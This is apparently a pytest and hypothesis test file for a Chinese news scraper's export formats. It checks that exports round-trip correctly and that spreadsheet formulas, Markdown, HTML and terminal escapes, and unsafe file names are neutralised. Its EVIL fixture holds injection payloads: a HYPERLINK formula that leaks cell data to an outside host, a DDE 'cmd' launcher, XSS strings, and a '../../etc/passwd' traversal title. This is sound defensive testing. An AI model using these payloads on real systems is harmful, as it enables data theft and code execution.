"""Exports keep what was said and run nothing."""

import csv
import io
import json
import os
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scraper.errors import UsageError
from scraper.export.files import file_name, into_file, into_folder, replaced
from scraper.export.formats import FORMATS
from scraper.export.markdown import escaped
from scraper.export.numbered import Numbered
from scraper.export.safe import cell, json_text
from scraper.model import Article, Block, Dateline, Image, Person, Related, Timestamp
from scraper.text import one_line, strip_controls

ARTICLE = Article(
    url="https://example.cn/a/1.html",
    canonical_url="https://example.cn/a/1.html",
    title="沅江边修起了步道",
    kicker="十里沿江路今日开通",
    subtitle="——城北居民出门五分钟见江",
    authors=(Person("周望", "reporter", "记者", "城市日报"),),
    editors=(Person("何宁", "editor"),),
    credits=(Person("周望", "photographer"),),
    dateline=Dateline("城市日报讯（记者 周望）", "城市日报", "讯"),
    category="民生",
    tags=("步道", "沿江"),
    origin="城市日报",
    reprinter="每日汇",
    published_at=Timestamp(datetime(2024, 3, 5, 8, 47, tzinfo=UTC), "minute"),
    captured_not_before=Timestamp.parse("2024-03-06"),
    fetched_at=datetime(2024, 3, 6, 1, 0, tzinfo=UTC),
    lang="zh",
    blocks=(
        Block("城市日报讯（记者 周望）步道长 3.2 公里。", "lead"),
        Block("怎么修的", "subhead"),
        Block("去年动工。\n今年开通。", "paragraph"),
        Block("步道一角。周望 摄", "caption"),
        Block("“五分钟就到。”", "quote"),
        Block("长椅\n路灯", "list"),
    ),
    images=(Image("https://example.cn/a b(1).jpg", "步道一角", "周望", 3),),
    related=(Related("related", "另一条", None, "https://example.cn/2", None),),
    quality=("low_confidence",),
    evidence={"title": "h1"},
)
EVIL = Article(
    title='=HYPERLINK("http://x/?"&A1)\x1b[31m',
    origin="+cmd|' /C calc'!A0",
    kicker="<script>alert(1)</script>",
    url="javascript:alert(1)",
    tags=("@SUM(1)",),
    blocks=(
        Block("# 不是标题\u202e", "lead"),
        Block("<img src=x onerror=alert(1)> [点我](javascript:alert(1))", "paragraph"),
        Block("---\ntitle: 假的\n---", "paragraph"),
        Block("1. 一\n- 二\n> 三\n```\n四", "paragraph"),
    ),
    images=(
        Image("javascript:alert(1)", "x"),
        Image('https://x/a" onload="b', "](javascript:x)"),
    ),
)


def written(name: str, *articles: Article) -> str:
    stream = io.StringIO(newline="")
    numbered = [Numbered(n, article) for n, article in enumerate(articles, 1)]
    assert FORMATS[name].write(numbered, stream) == len(articles)
    return stream.getvalue()


words = st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=20).map(
    strip_controls
)
times = st.integers(0, 2**31).map(lambda s: Timestamp(datetime.fromtimestamp(s, UTC), "second"))
people = st.builds(
    Person, words, st.sampled_from(["reporter", "writer"]), st.none() | words, st.none() | words
)
articles = st.builds(
    Article,
    url=st.none() | words,
    title=st.none() | words,
    kicker=st.none() | words,
    authors=st.tuples(people),
    dateline=st.none() | st.builds(Dateline, words, st.none() | words),
    tags=st.tuples(words, words),
    origin=st.none() | words,
    published_at=st.none() | times,
    blocks=st.lists(
        st.builds(Block, words, st.sampled_from(["lead", "paragraph", "caption"])), min_size=1
    ).map(tuple),
    images=st.tuples(st.builds(Image, words, st.none() | words)),
    related=st.tuples(st.builds(Related, st.just("more"), st.none() | words)),
    quality=st.just(("paywall",)),
    evidence=st.dictionaries(words, words, max_size=2),
)


@settings(deadline=None, max_examples=80)
@given(st.lists(articles, max_size=3))
def test_import_of_jsonl_export_is_the_same_article(many: list[Article]) -> None:
    lines = written("jsonl", *many).splitlines()
    assert [Article.from_json(json.loads(line)) for line in lines] == many


def test_import_of_jsonl_export_keeps_every_field_of_a_full_article() -> None:
    assert Article.from_json(json.loads(written("jsonl", ARTICLE))) == ARTICLE


def test_jsonl_leaves_han_as_han_and_hides_what_terminals_obey() -> None:
    line = written("jsonl", Article(title="题\u2028\x9b\u202e", blocks=(Block("文", "lead"),)))
    assert "题" in line
    assert not re.search("[\x80-\x9f\u2028\u202e]", line)
    assert json.loads(line)["title"] == "题\u2028\x9b\u202e"


def test_csv_has_a_row_an_article_and_a_mark_for_spreadsheets(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert into_file([Numbered(1, ARTICLE)], path, FORMATS["csv"]) == 1
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as stream:
        (row,) = csv.DictReader(stream)
    assert row["title"] == ARTICLE.title
    assert row["authors"] == "周望 (记者)"
    assert row["tags"] == "步道; 沿江"
    assert row["text"] == ARTICLE.text
    assert row["published_at"] == "2024-03-05T08:47:00+00:00"


def test_csv_opens_no_formula_and_carries_no_escape() -> None:
    (row,) = csv.DictReader(io.StringIO(written("csv", EVIL), newline=""))
    assert row["title"].startswith("'=HYPERLINK")
    assert row["origin"].startswith("'+cmd")
    assert row["tags"].startswith("'@SUM")
    assert "\x1b" not in written("csv", EVIL)


@settings(deadline=None, max_examples=200)
@given(st.text(max_size=30))
def test_no_cell_starts_like_a_formula(text: str) -> None:
    assert not cell(text).lstrip(" \u3000\xa0").startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_cuts_what_no_spreadsheet_cell_can_hold() -> None:
    (row,) = csv.DictReader(
        io.StringIO(written("csv", Article(blocks=(Block("字" * 40_000, "lead"),))), newline="")
    )
    assert len(row["text"]) == 32_767
    assert row["text"].endswith("…")


def test_markdown_has_front_matter_that_yaml_reads_and_the_body_in_order() -> None:
    text = written("md", ARTICLE)
    front = text.split("---\n")[1]
    facts = {k: json.loads(v) for k, v in (line.split(": ", 1) for line in front.splitlines())}
    assert facts["title"] == ARTICLE.title
    assert facts["authors"][0]["name"] == "周望"
    assert facts["published_at"] == "2024-03-05T08:47:00+00:00"
    assert "kicker" in facts
    assert "next_page" not in facts
    body = text.split("---\n")[2]
    order = [
        "*十里沿江路今日开通*", "# 沅江边修起了步道", "步道长", "## 怎么修的",
        "去年动工。  \n今年开通。", "![步道一角](https://example.cn/a%20b%281%29.jpg)",
        "*步道一角。周望 摄*", "> “五分钟就到。”", "- 长椅\n- 路灯",
    ]  # fmt: skip
    assert [body.index(piece) for piece in order] == sorted(body.index(piece) for piece in order)


def test_markdown_makes_no_html_heading_link_or_rule_of_a_text() -> None:
    text = written("md", EVIL)
    front, body = text.split("---\n", 2)[1:]
    assert len(front.splitlines()) == len({line.split(":")[0] for line in front.splitlines()})
    assert not re.search(r"(?<!\\)<", body)
    assert not re.search(r"(?<!\\)\]\(javascript", body)
    assert "javascript:alert(1))\n" not in body.replace("\\", "")[:0]
    headings = [line for line in body.splitlines() if re.match(r"\s*#", line)]
    assert len(headings) == 1
    assert not [line for line in body.splitlines() if re.match(r"\s*(---|===|```|1\.|- |> )", line)]
    assert '" onload' not in body


@settings(deadline=None, max_examples=200)
@given(st.text(max_size=40))
def test_escaped_markdown_has_no_open_mark(text: str) -> None:
    for line in escaped(text).split("\n"):
        assert not re.match(r"\s*(#|-|\+|=|>|\d+[.)])", line)
        assert not re.search(r"(?<!\\)(?:\\\\)*[<`*_\[\]]", line)


def test_plain_text_reads_like_a_clipping() -> None:
    lines = written("txt", ARTICLE, ARTICLE).splitlines()
    assert lines[:5] == [
        "十里沿江路今日开通", "沅江边修起了步道", "——城北居民出门五分钟见江",
        "2024-03-05 08:47+0000 · 城市日报 → 每日汇 · 民生",
        "记者 周望、editor 何宁、photographer 周望",
    ]  # fmt: skip
    assert "-" * 40 in lines


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_writes_nothing_and_much_and_strange_things(name: str) -> None:
    written(name)
    assert "\x1b" not in written(name, ARTICLE, EVIL, Article())


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_streams(name: str) -> None:
    asked: list[int] = []

    class Watcher(io.StringIO):
        def write(self, text: str) -> int:
            self.most = max(getattr(self, "most", 0), len(asked))
            self.first = getattr(self, "first", len(asked))
            return super().write(text)

    def one_by_one() -> Iterator[Numbered]:
        for number in range(3):
            asked.append(1)
            yield Numbered(number, ARTICLE)

    stream = Watcher()
    FORMATS[name].write(one_by_one(), stream)
    assert stream.first <= 1
    assert stream.most == 3


def test_a_file_appears_whole_or_not_at_all(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    path.write_text("old")

    def breaks() -> Iterator[Numbered]:
        yield Numbered(1, ARTICLE)
        raise ValueError("half-way")

    with pytest.raises(ValueError, match="half-way"):
        into_file(breaks(), path, FORMATS["jsonl"])
    assert path.read_text() == "old"
    assert [each.name for each in tmp_path.iterdir()] == ["out.jsonl"]


def test_a_folder_holds_one_file_an_article_under_safe_names(tmp_path: Path) -> None:
    folder = tmp_path / "new"
    evil = Article(title="../../etc/passwd\x00 .. CON " + "长" * 200, blocks=ARTICLE.blocks)
    assert into_folder([Numbered(1, ARTICLE), Numbered(2, evil)], folder, FORMATS["md"]) == 2
    names = sorted(each.name for each in folder.iterdir())
    assert names[0] == "2024-03-05-000001-沅江边修起了步道.md"
    assert names[1].startswith("undated-000002-etc-passwd-CON-长长")
    assert all(len(name.encode()) < 200 for name in names)
    assert [each.name for each in tmp_path.iterdir()] == ["new"]


@settings(deadline=None, max_examples=100)
@given(st.text(max_size=300))
def test_no_title_makes_a_name_that_climbs(title: str) -> None:
    name = file_name(Numbered(3, Article(title=title)), ".md")
    assert name.startswith("undated-000003")
    assert not set(name) & set('/\\:*?"<>|\0\n')
    assert len(name.encode()) < 200


def test_a_file_in_a_folder_that_is_not_there_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="there is no folder"), replaced(tmp_path / "no" / "x"):
        pass
    with pytest.raises(UsageError, match="is a folder"), replaced(tmp_path):
        pass


@settings(deadline=None, max_examples=100)
@given(st.text(max_size=50))
def test_json_text_reads_back_and_one_line_is_one_line(text: str) -> None:
    assert len(json_text(text).splitlines()) == 1
    assert len(one_line(text).splitlines()) <= 1


def test_a_pipe_is_written_to_and_a_link_is_followed_not_replaced(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    try:
        with replaced(pipe) as stream:
            stream.write("一")
        assert os.read(reader, 99).decode() == "一"
    finally:
        os.close(reader)
    assert pipe.is_fifo()
    (tmp_path / "link").symlink_to("file")
    with replaced(tmp_path / "link") as stream:
        stream.write("二")
    assert (tmp_path / "link").is_symlink()
    assert (tmp_path / "file").read_text("utf-8") == "二"


def test_whatever_is_printable_holds_no_control() -> None:
    printable = "".join(filter(str.isprintable, map(chr, range(0x110000))))
    assert strip_controls(f"{printable}\u3000") == f"{printable}\u3000"
